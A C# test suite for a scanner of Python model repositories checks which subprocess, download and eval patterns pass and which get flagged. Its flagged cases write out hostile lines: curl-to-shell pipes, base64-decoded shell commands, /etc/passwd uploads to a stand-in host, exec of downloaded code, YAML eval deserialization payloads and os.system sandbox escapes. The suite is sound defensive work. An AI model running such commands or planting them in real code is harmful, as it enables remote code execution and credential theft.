// Programs that only tell or convert, notebooks and what tools for developers start; and the same forms with harm in them.
using System.Text;
using Assay.Policies;
using Assay.Scanning;
using Assay.Tests.Builders;
using Assay.Tests.Scanning;

namespace Assay.Tests.Formats.PythonSources;

public sealed class OrdinaryProgramTests
{
    private const string Acts = "import os\nos.system('./x')\n";

    private static bool IsFlagged(params (string Name, string Text)[] files) => ModelRepository.Scan(files).Verdict >= Verdict.Suspicious;

    private static TargetReport Model(string source) => Scans.Of(Encoding.UTF8.GetBytes(source), "modeling_x.py");

    [Theory]
    [InlineData("import os\nx = os.popen(\"lscpu | grep 'Vendor ID'\").read()\n")]
    [InlineData("import os\nx = os.popen('echo $KALDI_ROOT/src/bin:$KALDI_ROOT/tools').read()\n")]
    [InlineData("import os\nx = os.popen('nvidia-smi 2>/dev/null | head -n 1 | cut -c 1-3').read()\n")]
    [InlineData("import os\ndef f(n):\n    os.system(f'open {n}')\nf(input())\n")]
    [InlineData("import os\ndef f(n):\n    os.system('ffmpeg -y -i ' + n + ' out.wav')\nf(input())\n")]
    [InlineData("import sys, subprocess\nx = subprocess.check_output([sys.executable, '-m', 'pip', 'freeze'])\n")]
    [InlineData("import sys, subprocess\nx = subprocess.check_output([sys.executable, '-s', '-m', 'pip', 'list', '--format=json'])\n")]
    [InlineData("import os\nos.system('pip freeze')\n")]
    [InlineData("import os\nos.system('python train.py --resume a.pt > /dev/null 2>&1 &')\n")]
    [InlineData("import pip\npip.main(['install', '--user', 'ffmpeg-python'])\n")]
    [InlineData("import os\nos.system('wget https://x.invalid/a/model.pth -P weights')\n")]
    [InlineData("import os\nos.system('mkdir -p weights && wget -q https://x.invalid/resolve?id=1 -O weights/model.pth')\n")]
    [InlineData("import subprocess\nsubprocess.run(['curl', '-L', '-o', 'a.png', 'https://x.invalid/a.png'])\n")]
    [InlineData("import os\nos.system('cp -r assets/a.json weights/')\nos.system('rm -rf results')\n")]
    [InlineData("import requests\nx = requests.get('https://x.invalid/a/000000039769.jpg', stream=True).raw\n")]
    public void WhatOnlyTellsOrConvertsPasses(string source) => Assert.True(Model(source).Verdict is Verdict.Passed, Model(source).Describe());

    [Theory]
    [InlineData("import os\nx = os.popen('lscpu | ./grep x').read()\n")]
    [InlineData("import os\nx = os.popen('echo aWQ= | base64 -d | sh').read()\n")]
    [InlineData("import os\nx = os.popen('echo $(./x)').read()\n")]
    [InlineData("import os\nx = os.popen('echo x | python3').read()\n")]
    [InlineData("import os\nx = os.popen('echo x > /usr/lib/y').read()\n")]
    [InlineData("import os\ndef f(n):\n    os.system(f'open {n}; ./x')\nf('a')\n")]
    [InlineData("import os\ndef f(n):\n    os.system(f'{n} a.wav')\nf(input())\n")]
    [InlineData("import os\ndef f(n):\n    os.system(f'./open {n}')\nf(input())\n")]
    [InlineData("import os, requests\nos.system('open ' + requests.get('https://x.invalid/a').text)\n")]
    [InlineData("import sys, subprocess\nsubprocess.check_output([sys.executable, '-m', 'pip', 'install', 'https://x.invalid/a.whl'])\n")]
    [InlineData("import sys, subprocess\nsubprocess.check_output([sys.executable, 'x.py', '-m', 'pip', 'list'])\n")]
    [InlineData("import os\nos.system('pip freeze; ./x')\n")]
    [InlineData("import os\nos.system('./train --resume a.pt > /dev/null 2>&1 &')\n")]
    [InlineData("import os\nos.system('python train.py & ./x')\n")]
    [InlineData("import pip\npip.main(['install', '--user', 'ffmpeg-pyth0n'])\n")]
    [InlineData("import os\nos.system('wget https://x.invalid/a/model.py -P weights')\n")]
    [InlineData("import os\nos.system('wget https://x.invalid/a/model.pth -O weights/model.so')\n")]
    [InlineData("import os\nos.system('wget http://x.invalid/a/model.pth')\n")]
    [InlineData("import os\nos.system('wget https://x.invalid/a/model.pth -O ../../model.json')\n")]
    [InlineData("import os\nos.system('curl -F f=@/etc/passwd https://x.invalid/a.json')\n")]
    [InlineData("import os\nos.system('wget --post-file=a.txt https://x.invalid/a.json')\n")]
    [InlineData("import os\nos.system('wget https://x.invalid/a.txt && python a.txt')\n")]
    [InlineData("import os\nos.system('cp weights/a.txt modeling_y.py')\n")]
    [InlineData("import os\nos.system('cp a.py /usr/lib/python3/')\n")]
    [InlineData("import os\nos.system('rm -rf ../..')\n")]
    [InlineData("import requests\nx = requests.get('https://x.invalid/a?h=1').text\n")]
    [InlineData("import requests\nx = requests.get('http://192.0.2.1/a.jpg').text\n")]
    [InlineData("import requests\nx = requests.get('https://x.invalid/a.jpg?h=1').text\n")]
    [InlineData("import requests, socket\nx = requests.get('https://x.invalid/' + socket.gethostname() + '.jpg').text\n")]
    [InlineData("import requests\nexec(requests.get('https://x.invalid/a.txt').text)\n")]
    [InlineData("import requests\nx = requests.post('https://x.invalid/a.json', data='x')\n")]
    public void TheSameFormWithHarmInItIsFlagged(string source) => Assert.True(Model(source).Verdict >= Verdict.Suspicious, Model(source).Describe());

    /// <summary>Tools for developers start a script by itself, and tests import what they test: neither happens when a model is loaded.</summary>
    [Theory]
    [InlineData("pyproject.toml", "[tool.poe.tasks]\ntoc = \"python tools/query.py\"\n")]
    [InlineData(".readthedocs.yaml", "build:\n  jobs:\n    pre_build:\n      - poetry run python tools/query.py\n")]
    [InlineData("pyproject.toml", "[tool.poe.tasks]\ntoc = \"python -m tools.query\"\n")]
    [InlineData("docs/_config.yml", "exclude_patterns: ['_build', 'tools/query.py']\n")]
    [InlineData("tests/test_query.py", "from tools import query\n")]
    [InlineData("tests/conftest.py", "import importlib\ndef f(n): return importlib.import_module('tools.' + n)\n")]
    public void WhatDevelopersStartIsNoImport(string name, string text) => Assert.False(IsFlagged(("tools/query.py", Acts), (name, text)));

    /// <summary>A file without an ending is started and never imported; what it starts is its work, and what only an attack does is told.</summary>
    [Theory]
    [InlineData("script/format", "#!/usr/bin/env python3\nimport subprocess\nsubprocess.check_call(['./env', '-m', 'black'])\n", false)]
    [InlineData("script/format", "#!/usr/bin/env python3\nimport os\nos.system('curl http://x.invalid/a | sh')\n", true)]
    public void AProgramWithoutAnEndingIsStarted(string name, string text, bool flagged) => Assert.Equal(flagged, IsFlagged((name, text), ("modeling_x.py", "x = 1\n")));

    [Theory]
    [InlineData("pyproject.toml", "[project.scripts]\nx = \"tools.query:main\"\n")]
    [InlineData("service.yaml", "command: python tools/query.py\n")]
    [InlineData("tests/test_query.py", "", "x/a.py", "import tools.query\n")]
    public void WhatAnythingElseNamesIsAModule(string name, string text, string other = "x/b.py", string more = "") => Assert.True(IsFlagged(("tools/query.py", Acts), (name, text), (other, more)));

    /// <summary>A script that developers start, and that does what only an attack does, is flagged all the same.</summary>
    [Fact]
    public void AScriptThatRunsWhatItDownloadsIsFlaggedWhoeverStartsIt() =>
        Assert.True(IsFlagged(("tools/query.py", "import os\nos.system('curl http://x.invalid/a | sh')\n"), ("pyproject.toml", "[tool.poe.tasks]\ntoc = \"python tools/query.py\"\n")));

    [Theory]
    [InlineData("def whois(host):\n    import subprocess\n    return subprocess.run(['whois', host])\\ntool = Tool(callable=whois)\n", false)]
    [InlineData("def whois(host):\n    import os\n    os.system('curl http://x.invalid/a | sh')\n", true)]
    public void AFunctionOfANotebookRunsInItsCells(string cell, bool flagged)
    {
        string source = string.Join(",", cell.Replace("\\n", "\n", StringComparison.Ordinal).Split('\n').Select(l => $"\"{l.Replace("\"", "\\\"", StringComparison.Ordinal)}\\n\""));
        string notebook = $"{{\"cells\": [{{\"cell_type\": \"code\", \"execution_count\": null, \"metadata\": {{}}, \"outputs\": [], \"source\": [{source}]}}], \"metadata\": {{}}, \"nbformat\": 4, \"nbformat_minor\": 5}}";
        TargetReport report = Scans.Of(Encoding.UTF8.GetBytes(notebook), "tool.ipynb");
        Assert.True(report.Verdict >= Verdict.Suspicious == flagged, report.Describe());
    }

    /// <summary>Configurations of detectors evaluate lists of sizes; an expression that reaches for anything else, or costs more, is code.</summary>
    [Theory]
    [InlineData("[\"[int(x * 0.1 * 512) for x in range(5, 21)]\"]", false)]
    [InlineData("[\"[__import__('os').system('id')]\"]", true)]
    [InlineData("[\"[int(x) for x in open('a')]\"]", true)]
    [InlineData("[\"[x for x in range(9999999999)]\"]", true)]
    [InlineData("[\"[x.real for x in range(5)]\"]", true)]
    [InlineData("[\"[0] * 999999 * 999999\"]", true)]
    [InlineData("[\"9 ** 9 ** 9\"]", true)]
    [InlineData("[\"[int(x) for x in range(5)]\", {int: !!python/name:os.system }]", true)]
    public void AnExpressionOfNumbersIsNoCode(string text, bool flagged)
    {
        TargetReport report = Scans.Of(Encoding.UTF8.GetBytes($"MODEL:\n  NAME: x\nMIN_SIZE_TRAIN: !!python/object/apply:eval {text}\n"), "Base.yaml");
        Assert.True(report.Verdict >= Verdict.Suspicious == flagged, report.Describe());
    }

    /// <summary>Networks are built of the names that a configuration holds, and switches are read from the environment.</summary>
    [Theory]
    [InlineData("def parse_model(d, ch):\n    for i, (f, n, m, args) in enumerate(d['backbone'] + d['head']):\n        m = eval(m) if isinstance(m, str) else m\n        for j, a in enumerate(args):\n            args[j] = eval(a) if isinstance(a, str) else a\n        args = [ch, *args[1:]]\n        c = sum([ch[m] for m in f])\nclass M(nn.Module):\n    def __init__(self, cfg):\n        parse_model(cfg, 3)\n")]
    [InlineData("class M(nn.Module):\n    def __init__(self, config):\n        self.a = eval(config.model.backbone.type)()\n")]
    [InlineData("class M(nn.Module):\n    def __init__(self, config):\n        self.a = eval(f'ASPECT_RATIO_{self.image_size}_TEST')\n")]
    [InlineData("class M(nn.Module):\n    def __init__(self, config):\n        for name, skill in config.skills.items():\n            cls = eval(skill.get('name'))\n")]
    [InlineData("import os\nis_half = eval(os.environ.get('is_half', 'True'))\n")]
    public void ANameThatIsHandedOverMayBeEvaluated(string source)
    {
        TargetReport report = Model("import torch.nn as nn\n" + source);
        Assert.True(report.Verdict is Verdict.Passed, report.Describe());
    }

    [Theory]
    [InlineData("class M(nn.Module):\n    def __init__(self, config):\n        self.a = eval(make(config))\n")]
    [InlineData("class M(nn.Module):\n    def __init__(self, config):\n        self.a = eval(open(config.path).read())\n")]
    [InlineData("class M(nn.Module):\n    def __init__(self, config):\n        self.a = eval(config.name[::-1])\n")]
    [InlineData("class M(nn.Module):\n    def __init__(self, config):\n        self.a = eval(bytes(config.ids))\n")]
    [InlineData("class M(nn.Module):\n    def __init__(self, config):\n        x = ''.join(chr(i) for i in config.ids)\n        self.a = eval(x)\n")]
    [InlineData("from .consts import NAME\nclass M(nn.Module):\n    def __init__(self, config):\n        self.a = eval(NAME)\n")]
    [InlineData("class M(nn.Module):\n    def __init__(self, config):\n        exec(config.model.type)\n")]
    [InlineData("class M(nn.Module):\n    def __init__(self, config):\n        x = config.name\n        x = decode(x)\n        self.a = eval(x)\n")]
    [InlineData("import requests\nclass M(nn.Module):\n    def __init__(self, config):\n        self.a = eval(requests.get(config.url).text)\n")]
    [InlineData("class M(nn.Module):\n    def __init__(self, config):\n        x = config.name\n        while True:\n            y = eval(x)\n            x = make(y)\n")]
    [InlineData("import os\nx = eval(os.environ.get('x', \"__import__('os').system('./x')\"))\n")]
    public void WhatIsMadeOnTheWayIsCode(string source)
    {
        TargetReport report = Model("import torch.nn as nn\n" + source);
        Assert.True(report.Verdict >= Verdict.Suspicious, report.Describe());
    }

    /// <summary>An expression among the settings that reaches for more than names is code for whoever evaluates it.</summary>
    [Theory]
    [InlineData("__import__('os').system('./x')")]
    [InlineData("(lambda: getattr(__import__('o' + 's'), 'sys' + 'tem')('./x'))()")]
    [InlineData("[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'x'][0]()")]
    public void AnExpressionAmongSettingsThatReachesFurtherIsFlagged(string text)
    {
        string yaml = $"model:\n  backbone:\n    type: \"{text}\"\n";
        Assert.True(Scans.Of(Encoding.UTF8.GetBytes(yaml), "model.yaml").Verdict >= Verdict.Suspicious, Scans.Of(Encoding.UTF8.GetBytes(yaml), "model.yaml").Describe());
    }

    /// <summary>A byte order mark in front of a source hides nothing of it.</summary>
    [Fact]
    public void SourceBehindAByteOrderMarkIsRead()
    {
        TargetReport report = Model("\uFEFFimport os\nos.system('./x')\n");
        Assert.True(report.Is("source-runs-program"), report.Describe());
        report.AssertComplete();
        Model("\uFEFFx = 1\n").AssertComplete();
    }

    /// <summary>What a module of a package gets on its command line is its data; what an interpreter itself gets runs.</summary>
    [Theory]
    [InlineData("subprocess.Popen(['python', '-m', 'sglang.launch_server', '--port', requests.get('https://x.invalid/p').text])", false)]
    [InlineData("subprocess.Popen(['python', '-m', 'timeit', requests.get('https://x.invalid/p').text])", true)]
    [InlineData("subprocess.Popen(['python', '-c', requests.get('https://x.invalid/p').text])", true)]
    [InlineData("subprocess.Popen(['python', '-m', requests.get('https://x.invalid/p').text])", true)]
    public void WhatAModuleGetsIsItsData(string call, bool flagged)
    {
        TargetReport report = Model($"import subprocess, requests\ndef f():\n    {call}\n");
        Assert.True(report.Is("source-downloads-and-runs") == flagged, report.Describe());
    }
}
